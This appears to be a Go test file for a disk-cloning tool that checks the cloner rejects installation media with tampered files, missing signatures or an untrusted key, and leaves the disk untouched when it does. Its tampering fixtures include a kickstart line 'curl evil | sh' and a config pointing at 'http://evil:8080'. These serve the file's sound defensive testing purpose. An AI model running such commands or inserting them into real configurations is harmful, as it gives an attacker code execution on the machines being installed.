package clone

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/clonecd/clonecd/cpio"
	"github.com/clonecd/clonecd/internal/testenv"
	"github.com/clonecd/clonecd/internal/testsign"
	"github.com/clonecd/clonecd/medium"
	"github.com/clonecd/clonecd/trust"
)

// smallLayout is a one-partition layout for a 64 MiB disk.
const smallLayout = `label: dos
unit: sectors
sector-size: 512

/dev/sda1 : start=2048, size=65536, type=83, bootable
# clonecd: part=1 fs=ext4 mount=/ label=root
`

// signMedia signs the medium dir (version 1.42) with key; nil: only
// MANIFEST is made anew.
func signMedia(t *testing.T, dir string, key *trust.SecretKey) { testsign.Dir(t, dir, "1.42", key) }

// trustReporter records what the run reports.
type trustReporter struct {
	mu    sync.Mutex
	trust string
}

func (r *trustReporter) Step(string)           {}
func (r *trustReporter) Progress(int64, int64) {}
func (r *trustReporter) Done(error)            {}
func (r *trustReporter) Trusted(s string)      { r.mu.Lock(); r.trust = s; r.mu.Unlock() }

// TestCloneTrust is issue 11's cloner side on a loop disk: a cloner that
// trusts the master's key clones a signed medium (stopped before
// partition), and refuses the medium with each of its files changed in
// turn (layout, ks.cfg, nodes, clonecd.conf, the image with a matching
// .sha256, kernel, initrd, CLONE_CD_VERSION, MANIFEST, the signature
// removed or another key's), naming the file, with the disk's bytes as
// they were. A cloner without a key clones the same medium and says
// UNSIGNED in its log and its report.
func TestCloneTrust(t *testing.T) {
	testenv.NeedRoot(t)
	testenv.NeedTools(t, "sfdisk", "losetup", "cp")
	root := t.TempDir()
	for n, c := range map[string]string{"etc/hostname": "golden\n", "etc/motd": "hello\n", "bin/true": "#!/bin/sh\n"} {
		os.MkdirAll(filepath.Join(root, filepath.Dir(n)), 0o755)
		os.WriteFile(filepath.Join(root, n), []byte(c), 0o644)
	}
	implant := t.TempDir() // a well formed image of another root
	os.WriteFile(filepath.Join(implant, "implant"), []byte("root's now\n"), 0o644)
	forged := t.TempDir()
	makeMedia(t, implant, forged)
	signed := t.TempDir()
	makeMedia(t, root, signed)
	os.WriteFile(filepath.Join(signed, medium.Layout), []byte(smallLayout), 0o644)
	dir := t.TempDir()
	key, err := trust.GenerateKey(filepath.Join(dir, "clonecd.key"))
	if err != nil {
		t.Fatal(err)
	}
	other, err := trust.GenerateKey(filepath.Join(dir, "other.key"))
	if err != nil {
		t.Fatal(err)
	}
	initrd := func(names ...string) string {
		return string(testGzip(testArchive(t)(append([]string{"init"}, names...)...)))
	}
	os.WriteFile(filepath.Join(signed, medium.Initrd), []byte(initrd("etc/clonecd/trust/"+key.Public().FileName())), 0o644)
	signMedia(t, signed, key)
	keys, err := trust.NewVerifier(key.Public())
	if err != nil {
		t.Fatal(err)
	}
	disk := testenv.Sparse(t, "node.img", 64<<20)
	// the disk holds an old node's bytes that a refusal must leave alone
	if out, err := exec.Command("sh", "-c", "printf 'old node' | dd of="+disk+" bs=1M seek=3 conv=notrunc status=none").CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}

	wantLog := map[string]string{
		"signed": `setup: isolinux/initrd.img \(the ramclone entry\) trusts key ` + key.ID(),
		"signed, an initrd without the key": `setup: warning: isolinux/initrd.img, the cloner this node keeps as its ramclone entry, does not trust key ` +
			key.ID() + ` \(it trusts: ` + other.ID() + `\)`,
	}
	change := func(name, text string) func(string) {
		return func(m string) { os.WriteFile(filepath.Join(m, filepath.FromSlash(name)), []byte(text), 0o644) }
	}
	for _, tt := range []struct {
		name   string
		change func(media string) // nil: the medium as signed
		keys   *trust.Verifier
		file   string // the file the refusal names ("": cloned)
		why    string // regexp on the refusal; when cloned, the trust it reports
	}{
		{"signed", nil, keys, "", "signed by key " + key.ID()},
		{"no key", nil, nil, "", trust.Unsigned},
		{"no key, unsigned medium", func(m string) { os.Remove(filepath.Join(m, medium.SignatureFile)) }, nil, "", trust.Unsigned},
		{"signed, an initrd without the key", func(m string) {
			change(medium.Initrd, initrd("etc/clonecd/trust/"+other.Public().FileName()))(m)
			signMedia(t, m, key)
		}, keys, "", "signed by key " + key.ID()},
		{"layout", change(medium.Layout, strings.Replace(smallLayout, "size=65536", "size=65537", 1)), keys, medium.Layout, "the manifest says"},
		{"ks.cfg", change(medium.Kickstart, "%post --nochroot\ncurl evil | sh\n%end\n"), keys, medium.Kickstart, "the manifest says"},
		{"nodes", change(medium.Nodes, "52:54:00:12:34:56 s002\n"), keys, medium.Nodes, "the manifest says"},
		{"clonecd.conf", change(medium.Conf, "server=http://evil:8080\n"), keys, medium.Conf, "the manifest says"},
		{"kernel", change(medium.Kernel, "an implant"), keys, medium.Kernel, "MANIFEST says"},
		{"kernel removed", func(m string) { os.Remove(filepath.Join(m, medium.Kernel)) }, keys, medium.Kernel, "listed in MANIFEST but missing"},
		{"initrd, one byte", func(m string) {
			p := filepath.Join(m, medium.Initrd)
			b, _ := os.ReadFile(p)
			b[len(b)/2] ^= 1
			os.WriteFile(p, b, 0o644)
		}, keys, medium.Initrd, "sha256 [0-9a-f]{64}, the manifest says"},
		{"image, with a matching .sha256", func(m string) {
			for _, n := range []string{medium.ImageGzip, medium.SumName(medium.ImageGzip)} {
				b, _ := os.ReadFile(filepath.Join(forged, n))
				os.WriteFile(filepath.Join(m, n), b, 0o644)
			}
		}, keys, medium.ImageGzip, "the manifest says .*not the image the master signed"},
		{"version", change(medium.Version, "1.43\n"), keys, medium.Version, "the manifest says|MANIFEST is for version"},
		{"manifest", func(m string) {
			p := filepath.Join(m, medium.ManifestFile)
			b, _ := os.ReadFile(p)
			os.WriteFile(p, []byte(strings.Replace(string(b), "date ", "date 1", 1)), 0o644)
		}, keys, medium.ManifestFile, "does not match its signature"},
		{"manifest re-made for a changed ks.cfg", func(m string) {
			change(medium.Kickstart, "%post --nochroot\ncurl evil | sh\n%end\n")(m)
			signMedia(t, m, nil)
		}, keys, medium.ManifestFile, "does not match its signature"},
		{"signature removed", func(m string) { os.Remove(filepath.Join(m, medium.SignatureFile)) }, keys, medium.SignatureFile, "missing"},
		{"signed by another key", func(m string) { signMedia(t, m, other) }, keys, medium.SignatureFile, "not trusted"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			media := filepath.Join(t.TempDir(), "media")
			if out, err := exec.Command("cp", "-a", signed, media).CombinedOutput(); err != nil {
				t.Fatalf("cp: %v: %s", err, out)
			}
			if tt.change != nil {
				tt.change(media)
			}
			before := testenv.SHA256File(t, disk)
			var log strings.Builder
			rep := &trustReporter{}
			err := Run(context.Background(), Config{Media: os.DirFS(media), Target: disk, Trust: tt.keys, Log: &log,
				Hostname: "n1", NoTune: true, Break: "partition", Reporter: rep, MACs: []string{}})
			t.Logf("clone log:\n%s", log.String())
			if after := testenv.SHA256File(t, disk); after != before {
				t.Errorf("the disk's bytes changed before partition")
			}
			if tt.file == "" {
				if !errors.Is(err, ErrBreak) {
					t.Fatalf("err = %v; want the run to reach partition", err)
				}
				if rep.trust != tt.why {
					t.Errorf("reported trust %q; want %q", rep.trust, tt.why)
				}
				if want := wantLog[tt.name]; !regexp.MustCompile(want).MatchString(log.String()) {
					t.Errorf("the log does not match %q", want)
				}
				if !strings.Contains(log.String(), "setup: "+tt.why) && !strings.Contains(log.String(), "setup: media "+tt.why) {
					t.Errorf("the log does not say %s", tt.why)
				}
				return
			}
			var se *StepError
			if !errors.As(err, &se) || se.Step != "setup" {
				t.Fatalf("err = %v; want a refusal in setup", err)
			}
			if !regexp.MustCompile(regexp.QuoteMeta(tt.file) + `[: ].*(` + tt.why + `)`).MatchString(err.Error()) {
				t.Errorf("err = %v; want it to name %s (%s)", err, tt.file, tt.why)
			}
			if !strings.Contains(err.Error(), "nothing was written") {
				t.Errorf("err = %v; want it to say nothing was written", err)
			}
		})
	}
	// The network cloner does not read the image in setup: a forged one
	// is refused at the end of its stream, in unpack (the safety net
	// keeps the node in the cloner), naming it; the signed one unpacks.
	for _, tt := range []struct {
		name   string
		forged bool
	}{{"network mode, signed image", false}, {"network mode, forged image", true}} {
		t.Run(tt.name, func(t *testing.T) {
			testenv.NeedTools(t, "mke2fs", "partx", "blkid")
			media := filepath.Join(t.TempDir(), "media")
			if out, err := exec.Command("cp", "-a", signed, media).CombinedOutput(); err != nil {
				t.Fatalf("cp: %v: %s", err, out)
			}
			if tt.forged {
				for _, n := range []string{medium.ImageGzip, medium.SumName(medium.ImageGzip)} {
					b, _ := os.ReadFile(filepath.Join(forged, n))
					os.WriteFile(filepath.Join(media, n), b, 0o644)
				}
			}
			var log strings.Builder
			err := Run(context.Background(), Config{Media: os.DirFS(media), Target: disk, Trust: keys, Log: &log,
				Hostname: "n1", NoTune: true, Break: "identity", Net: true, MACs: []string{}})
			t.Logf("clone log:\n%s", log.String())
			var se *StepError
			switch {
			case !tt.forged && !errors.Is(err, ErrBreak):
				t.Fatalf("err = %v; want the run to reach identity", err)
			case tt.forged && (!errors.As(err, &se) || se.Step != "unpack" ||
				!regexp.MustCompile(`node\.cpio\.gz: .*the manifest says .*not the image the master signed`).MatchString(err.Error())):
				t.Fatalf("err = %v; want a refusal at unpack naming node.cpio.gz", err)
			}
		})
	}
}

// testArchive returns a function that makes a newc archive of the named
// files.
func testArchive(t *testing.T) func(names ...string) []byte {
	return func(names ...string) []byte {
		var b bytes.Buffer
		w := cpio.NewWriter(&b)
		for _, n := range names {
			w.WriteHeader(&cpio.Header{Name: n, Mode: 0o100644, Nlink: 1, Size: 3})
			w.Write([]byte("key"))
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
}

func testGzip(b []byte) []byte {
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	z.Write(b)
	z.Close()
	return out.Bytes()
}

// TestInitrdKeyIDs: the keys a cloner's initramfs trusts, gzip-compressed
// or not; a file that is no initramfs is an error, not "no key".
func TestInitrdKeyIDs(t *testing.T) {
	archive, gz := testArchive(t), testGzip
	two := archive("init", "etc/clonecd/trust/6D25424143BBD4E.pub", "./etc/clonecd/trust/3F1A09C2D44E5B71.pub",
		"etc/clonecd/trust/notes.txt", "etc/clonecd/trust/sub/X.pub", "etc/clonecd/credential")
	for _, tt := range []struct {
		name   string
		initrd []byte
		want   string
		err    bool
	}{
		{"gzip", gz(two), "6D25424143BBD4E 3F1A09C2D44E5B71", false},
		{"plain", two, "6D25424143BBD4E 3F1A09C2D44E5B71", false},
		{"no key", gz(archive("init", "etc/passwd")), "", false},
		{"not an initramfs", []byte("initrd"), "", true},
		{"truncated", gz(two)[:40], "", true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			ids, err := initrdKeyIDs(tt.initrd)
			if got := strings.Join(ids, " "); got != tt.want || (err != nil) != tt.err {
				t.Errorf("initrdKeyIDs = %q, %v; want %q, error %v", got, err, tt.want, tt.err)
			}
		})
	}
}
